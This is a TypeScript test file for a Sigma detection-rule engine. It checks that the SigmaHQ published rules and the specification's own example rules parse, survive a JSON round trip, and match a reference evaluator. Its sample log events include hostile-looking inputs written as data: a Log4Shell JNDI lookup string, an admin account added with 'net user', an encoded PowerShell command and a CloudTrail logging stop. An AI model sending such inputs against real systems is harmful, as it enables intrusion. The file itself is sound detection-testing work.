import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../event/json.ts';
import { compileField, topKeysOf } from './field.ts';
import { parseRules } from './parse.ts';
import { formatProblem } from './problem.ts';
import type { Rule } from './rule.ts';
import { compileRules } from './ruleset.ts';
import { publishedRules } from '../../test/support/published-rules.ts';
import { oracleMatches } from './testing/oracle.ts';

/** Published rules of other people, read where they lie; without them these tests are skipped and counted as such. */
const data = process.env['TOCSIN_TEST_DATA'] ?? join(import.meta.dirname, '../../../shared/data');
const examples = join(data, 'sigma-specification/tests/schema/rules');
const view = { field: compileField, whole: (event: JsonObject) => event, topKeys: topKeysOf };

/** Files of the archive that are refused, with a part of the reason. Each needs a reason that the specification supports. */
const refused: Readonly<Record<string, string>> = {};

const fresh = { EventID: 1, Image: String.raw`C:\Windows\System32\cmd.exe` };
const events: readonly JsonObject[] = [
  {},
  { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' },
  {
    eventSource: 'guardduty.amazonaws.com',
    eventName: 'CreateIPSet',
    requestParameters: { x: [1, { y: null }] },
  },
  { ...fresh, CommandLine: 'cmd /c whoami', ParentImage: String.raw`C:\Windows\System32\wbem\WmiPrvSE.exe` },
  {
    ...fresh,
    CommandLine: 'net user admin secret \u2015add',
    Image: String.raw`C:\Windows\System32\net.exe`,
  },
  {
    ...fresh,
    Image: String.raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
    OriginalFileName: 'PowerShell.EXE',
    CommandLine: 'powershell \u2013enc SQBFAFgAIABoAHQAdABwADoALwAvAGE=',
  },
  {
    'cs-method': 'GET',
    'cs-uri-query': '/?q=${jndi:ldap://a}',
    'c-useragent': 'sqlmap/1.0',
    'sc-status': 200,
  },
  { DestinationIp: '192.168.1.9', DestinationPort: 445, Initiated: 'true', text: 'ünïcode \u0000 \ud800' },
];

describe.skipIf(publishedRules.length === 0)('the rules that SigmaHQ publishes', () => {
  const parsed = publishedRules.map(({ path, text }) => ({ path, ...parseRules(text, path) }));
  const rules: readonly Rule[] = parsed.flatMap((file) => file.rules);

  it('are all there', () => expect(publishedRules.length).toBe(3141));

  it('are all read, without a problem, but for those listed', () => {
    const told = parsed.flatMap(({ problems }) => problems).filter(({ path }) => !(path in refused));
    expect(told.map(formatProblem)).toEqual([]);
    expect(rules.length).toBe(publishedRules.length - Object.keys(refused).length);
    for (const [path, reason] of Object.entries(refused)) {
      const problems = parsed.find((file) => file.path === path)?.problems ?? [];
      expect(problems.map(({ message }) => message).join('\n')).toContain(reason);
    }
  });

  it('survive being written as JSON', () => {
    const again = JSON.parse(JSON.stringify(rules)) as readonly Rule[];
    expect(JSON.stringify(again)).toBe(JSON.stringify(rules));
    const [run, runAgain] = [compileRules(rules, view), compileRules(again, view)];
    for (const event of events)
      expect(runAgain(event).map(({ id }) => id)).toEqual(run(event).map(({ id }) => id));
  });

  it('find what the plain evaluator finds, and something', () => {
    const run = compileRules(rules, view);
    let found = 0;
    for (const event of events) {
      const matching = run(event).map(({ path }) => path);
      expect(matching).toEqual(rules.filter((rule) => oracleMatches(rule, event)).map(({ path }) => path));
      found += matching.length;
    }
    expect(found).toBeGreaterThan(5);
  });
});

describe.skipIf(!existsSync(examples))("the specification's own examples", () => {
  const names = existsSync(examples) ? readdirSync(examples).filter((name) => name.endsWith('.yml')) : [];

  it.each(names)('%s is read and compiles', (name) => {
    const { rules, problems } = parseRules(readFileSync(join(examples, name), 'utf8'), name);
    // One is written in the names of ECS, which is told.
    expect(problems.map(({ message }) => message.slice(0, 28))).toEqual(
      name === 'rule_ecs.yml' ? ['the names in the rule are th'] : [],
    );
    expect(rules).toHaveLength(1);
    expect(compileRules(rules, view)({})).toEqual([]);
  });
});
